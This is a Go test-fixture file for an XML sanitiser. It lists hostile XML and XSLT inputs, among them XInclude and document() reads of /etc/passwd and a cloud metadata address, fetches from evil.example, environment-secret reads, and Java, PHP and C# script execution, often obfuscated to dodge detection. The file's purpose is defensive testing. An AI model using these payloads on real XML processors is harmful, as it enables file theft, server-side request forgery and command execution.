package xmltest

import "github.com/seed73825598/airlock/limits"

// The rules about what a document would have fetched, as safexml calls them.
const (
	instruction    limits.Rule = "processing-instruction"
	xinclude       limits.Rule = "xinclude"
	schemaLocation limits.Rule = "schema-location"
	xsltImport     limits.Rule = "xslt-import"
	schemaImport   limits.Rule = "schema-import"
	external       limits.Rule = "external-reference"
	active         limits.Rule = "active-content"
)

// Namespace declarations that the documents begin with.
const (
	nsXInclude = ` xmlns:xi="http://www.w3.org/2001/XInclude"`
	nsXSI      = ` xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"`
	nsXSD      = ` xmlns:xs="http://www.w3.org/2001/XMLSchema"`
	nsXSL      = ` xmlns:xsl="http://www.w3.org/1999/XSL/Transform"`
	nsXLink    = ` xmlns:xlink="http://www.w3.org/1999/xlink"`
)

// hostileFetches has what parsers, validators and viewers fetch.
func hostileFetches() []recipe {
	return []recipe{
		text(instruction, "stylesheet", `<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><a/>`),
		text(instruction, "model", `<?xml-model href="http://evil.example/x.rng"?><a/>`),
		text(instruction, "catalog", `<?oasis-xml-catalog catalog="http://evil.example/catalog.xml"?><a/>`),
		text(instruction, "behaviour", `<?import namespace="x" implementation="http://evil.example/x.htc"?><a/>`),
		text(instruction, "inside", `<a><?xml-stylesheet href="x.css"?></a>`),
		text(instruction, "behind-root", `<a/><?xml-stylesheet href="x.css"?>`),

		text(xinclude, "file", `<a`+nsXInclude+`><xi:include href="file:///etc/passwd" parse="text"/></a>`),
		text(xinclude, "remote", `<a`+nsXInclude+`><xi:include href="http://169.254.169.254/latest/meta-data/"/></a>`),
		text(xinclude, "old-namespace", `<a xmlns:x="http://www.w3.org/2003/XInclude"><x:include href="b.xml"/></a>`),
		text(xinclude, "default-namespace", `<include xmlns="http://www.w3.org/2001/XInclude" href="b.xml"/>`),
		text(xinclude, "declared-behind", `<xi:include href="b.xml"`+nsXInclude+`/>`),
		text(xinclude, "encoded-namespace",
			`<a><b:include xmlns:b="http://www.w3.org/2001/&#88;Include" href="b.xml"/></a>`),
		text(xinclude, "same-document", `<a`+nsXInclude+`><xi:include xpointer="xpointer(/)"/></a>`),
		text(xinclude, "fallback-first", `<a`+nsXInclude+`><xi:fallback/></a>`),

		text(schemaLocation, "pairs", `<a`+nsXSI+` xsi:schemaLocation="urn:a http://evil.example/a.xsd"/>`),
		text(schemaLocation, "no-namespace", `<a`+nsXSI+` xsi:noNamespaceSchemaLocation="http://evil.example/a.xsd"/>`),
		text(schemaLocation, "other-prefix",
			`<a b:schemaLocation="u file:///etc/passwd" xmlns:b="http://www.w3.org/2001/XMLSchema-instance"/>`),
		text(schemaLocation, "deep-inside", `<a><b><c`+nsXSI+` xsi:schemaLocation="u v"/></b></a>`),
		text(schemaLocation, "wsdl-instance",
			`<a xmlns:w="http://www.w3.org/ns/wsdl-instance" w:wsdlLocation="u http://evil.example/a.wsdl"/>`),

		text(schemaImport, "import", `<xs:schema`+nsXSD+
			`><xs:import namespace="u" schemaLocation="http://evil.example/u.xsd"/></xs:schema>`),
		text(schemaImport, "include", `<schema xmlns="http://www.w3.org/2001/XMLSchema"><include `+
			`schemaLocation="file:///etc/passwd"/></schema>`),
		text(schemaImport, "redefine", `<xs:schema`+nsXSD+`><xs:redefine schemaLocation="b.xsd"/></xs:schema>`),
		text(schemaImport, "override", `<xs:schema`+nsXSD+`><xs:override schemaLocation="b.xsd"/></xs:schema>`),
		text(schemaImport, "wsdl", `<definitions xmlns="http://schemas.xmlsoap.org/wsdl/"><import namespace="u" `+
			`location="http://evil.example/b.wsdl"/></definitions>`),
		text(schemaImport, "relaxng-external",
			`<externalRef xmlns="http://relaxng.org/ns/structure/1.0" href="http://evil.example/x.rng"/>`),
		text(schemaImport, "relaxng-include",
			`<grammar xmlns="http://relaxng.org/ns/structure/1.0"><include href="x.rng"/></grammar>`),
		text(schemaImport, "schematron",
			`<s:schema xmlns:s="http://purl.oclc.org/dsdl/schematron"><s:include href="http://evil.example/x.sch"/></s:schema>`),

		text(schemaImport, "relaxng-include-by-a-prefix",
			`<grammar xmlns="http://relaxng.org/ns/structure/1.0" xmlns:q="urn:q"><include q:href="x.rng"/></grammar>`),
		text(schemaImport, "relaxng-external-by-its-own-prefix",
			`<r:externalRef xmlns:r="http://relaxng.org/ns/structure/1.0" r:href="x.rng"/>`),
		text(schemaImport, "relaxng-include-by-xlink",
			`<grammar xmlns="http://relaxng.org/ns/structure/1.0"`+nsXLink+`><include xlink:href="x.rng"/></grammar>`),

		text(external, "xlink-on-load",
			`<a`+nsXLink+` xlink:type="simple" xlink:actuate="onLoad" xlink:href="http://evil.example/x"/>`),
		text(external, "xlink-embed", `<a`+nsXLink+` xlink:show="embed" xlink:href="//evil.example/x"/>`),
		text(external, "xlink-embed-base",
			`<a`+nsXLink+` xml:base="http://evil.example/"><b xlink:show="embed" xlink:href="x"/></a>`),
		text(external, "xlink-embed-base-after",
			`<a`+nsXLink+` xlink:show="embed" xlink:href="x" xml:base="http://evil.example/"/>`),
		text(external, "xlink-embed-base-that-is-no-uri",
			`<a`+nsXLink+` xml:base="http://evil.example/%zz/"><b xlink:show="embed" xlink:href="x"/></a>`),
		text(external, "xlink-embed-no-uri-in-base",
			`<a`+nsXLink+` xml:base="http://evil.example/"><b xlink:show="embed" xlink:href="%zz"/></a>`),
		text(external, "xlink-embed-base-with-backslashes",
			`<a`+nsXLink+` xml:base="\\evil.example\"><b xml:base="y/"><c xlink:show="embed" xlink:href="x"/></b></a>`),
		text(external, "xlink-embed-backslashes-in-base",
			`<a`+nsXLink+` xml:base="y/"><b xlink:show="embed" xlink:href="\\evil.example\x"/></a>`),
		text(external, "xlink-embed-with-tab",
			`<a`+nsXLink+` xlink:show="embed" xlink:href="ht&#9;tp://evil.example/x"/>`),
		text(external, "xproc-document",
			`<p:input xmlns:p="http://www.w3.org/ns/xproc"><p:document href="http://evil.example/x"/></p:input>`),
	}
}

// hostileStylesheets has stylesheets that read, write and run.
func hostileStylesheets() []recipe {
	sheet := func(body string) string {
		return `<xsl:stylesheet version="1.0"` + nsXSL + `>` + body + `</xsl:stylesheet>`
	}
	return []recipe{
		text(xsltImport, "import", sheet(`<xsl:import href="http://evil.example/x.xsl"/>`)),
		text(xsltImport, "include", sheet(`<xsl:include href="x.xsl"/>`)),
		text(xsltImport, "result-document",
			sheet(`<xsl:template match="/"><xsl:result-document href="file:///tmp/x"/></xsl:template>`)),
		text(xsltImport, "document", sheet(`<xsl:template match="/"><xsl:copy-of select="document('file:///etc/passwd')"/>`+
			`</xsl:template>`)),
		text(xsltImport, "document-spaced", sheet(`<xsl:variable name="x" select="document &#10; ( 'x' )"/>`)),
		text(xsltImport, "document-comment", sheet(`<xsl:variable name="x" select="document(: (: :) :)('x')"/>`)),
		text(xsltImport, "document-by-name", sheet(`<xsl:variable name="x" select="document#1"/>`)),
		text(xsltImport, "document-encoded", sheet(`<xsl:variable name="x" select="&#100;ocument('x')"/>`)),
		text(xsltImport, "document-prefixed",
			sheet(`<xsl:variable name="x" select="fn:doc('x')" xmlns:fn="http://www.w3.org/2005/xpath-functions"/>`)),
		text(xsltImport, "unparsed-text", sheet(`<xsl:value-of select="unparsed-text('/etc/passwd')"/>`)),
		text(xsltImport, "function-by-computed-name", sheet(`<xsl:variable name="x" `+
			`select="function-lookup(xs:QName(concat('fn:d', 'oc')), 1)('x')"/>`)),
		text(xsltImport, "computed-expression", sheet(`<xsl:evaluate xpath="concat('do', 'c(&quot;x&quot;)')"/>`)),
		text(xsltImport, "computed-expression-of-exslt",
			sheet(`<xsl:value-of select="d:evaluate($x)" xmlns:d="http://exslt.org/dynamic"/>`)),
		text(xsltImport, "environment", sheet(`<xsl:value-of select="environment-variable('SECRET')"/>`)),
		text(xsltImport, "file-module", sheet(`<xsl:value-of select="f:write-text('/tmp/x', 'y')"/>`)),
		text(xsltImport, "package", sheet(`<xsl:use-package name="http://evil.example/p"/>`)),
		text(xsltImport, "include-by-shadow", sheet(`<xsl:include _href="x.xsl"/>`)),
		text(xsltImport, "import-by-computed-shadow", sheet(`<xsl:import _href="{concat('http://evil', '.example/')}"/>`)),
		text(xsltImport, "computed-shadow", sheet(`<xsl:value-of _select="{'d'||'oc'}('x')"/>`)),
		text(xsltImport, "document-of-1.1", sheet(`<xsl:document href="/tmp/x"/>`)),
		text(xsltImport, "output-of-saxon", sheet(`<s:output href="/tmp/x" xmlns:s="http://icl.com/saxon"/>`)),
		text(xsltImport, "document-of-xt", sheet(`<x:document href="/tmp/x" xmlns:x="http://www.jclark.com/xt"/>`)),
		text(xsltImport, "write-of-redirect",
			sheet(`<r:write file="/tmp/x" xmlns:r="org.apache.xalan.xslt.extensions.Redirect"/>`)),
		text(xsltImport, "pipe", sheet(`<p:pipeDocument source="x" target="/tmp/x" `+
			`xmlns:p="http://xml.apache.org/xalan/PipeDocument"/>`)),
		text(xsltImport, "query", sheet(`<s:import-query href="http://evil.example/x.xq" xmlns:s="http://saxon.sf.net/"/>`)),
		text(xsltImport, "merge", sheet(`<xsl:merge-source for-each-source="'http://evil.example/x'"/>`)),
		text(xsltImport, "is-there-a-document", sheet(`<xsl:if test="doc-available('http://evil.example/x')"/>`)),
		text(xsltImport, "is-there-a-text", sheet(`<xsl:if test="unparsed-text-available('http://evil.example/x')"/>`)),
		text(xsltImport, "document-type-of-text",
			sheet(`<xsl:copy-of select="parse-xml('&lt;!DOCTYPE a SYSTEM &quot;http://evil.example/&quot;>&lt;a/>')"/>`)),
		text(active, "script-of-1.1", sheet(`<xsl:script language="java" implements-prefix="j" src="java:x"/>`)),
		text(active, "script-of-exslt", sheet(`<f:script xmlns:f="http://exslt.org/functions" src="x.js"/>`)),
		text(active, "class-of-java-without-declaration",
			sheet(`<xsl:value-of select="Q{java:java.lang.Runtime}getRuntime()"/>`)),
		text(active, "class-of-java-in-template", `<p xsl:version="3.0"`+nsXSL+
			` title="{1 + Q{ java:java.lang.System }exit(1)}"/>`),
		text(active, "database-of-xalan", sheet(`<p xmlns:sql="http://xml.apache.org/xalan/sql"/>`)),
		text(active, "class-of-java", sheet(`<p xmlns:r="xalan://java.lang.Runtime"><xsl:value-of `+
			`select="r:exec(r:getRuntime(), 'x')"/></p>`)),
		text(active, "class-of-java-in-xalan", `<xsl:stylesheet version="1.0"`+nsXSL+
			` xmlns:r="http://xml.apache.org/xalan/java/java.lang.Runtime"/>`),
		text(active, "function-of-php", `<p xsl:version="1.0"`+nsXSL+` xmlns:php="http://php.net/xsl" `+
			`title="{php:function('system', 'x')}"/>`),
		text(xsltImport, "template-in-attribute",
			`<html title="{document('http://evil.example/')}" xsl:version="1.0"`+nsXSL+`/>`),
		text(xsltImport, "template-in-text", sheet(`<p xsl:expand-text="yes">{unparsed-text('/etc/passwd')}</p>`)),
		text(xsltImport, "extension-document", sheet(`<e:document href="/tmp/x" xmlns:e="http://exslt.org/common"/>`)),
		text(xsltImport, "schematron",
			`<s:assert xmlns:s="http://purl.oclc.org/dsdl/schematron" test="document('http://evil.example/')"/>`),

		text(active, "script-of-msxsl",
			sheet(`<m:script xmlns:m="urn:schemas-microsoft-com:xslt" language="C#">x</m:script>`)),
		text(active, "script-of-xalan", sheet(`<x:script xmlns:x="http://xml.apache.org/xalan" src="x.js"/>`)),
		text(active, "component-of-xalan", sheet(`<x:component xmlns:x="http://xml.apache.org/xslt" prefix="p"/>`)),
	}
}
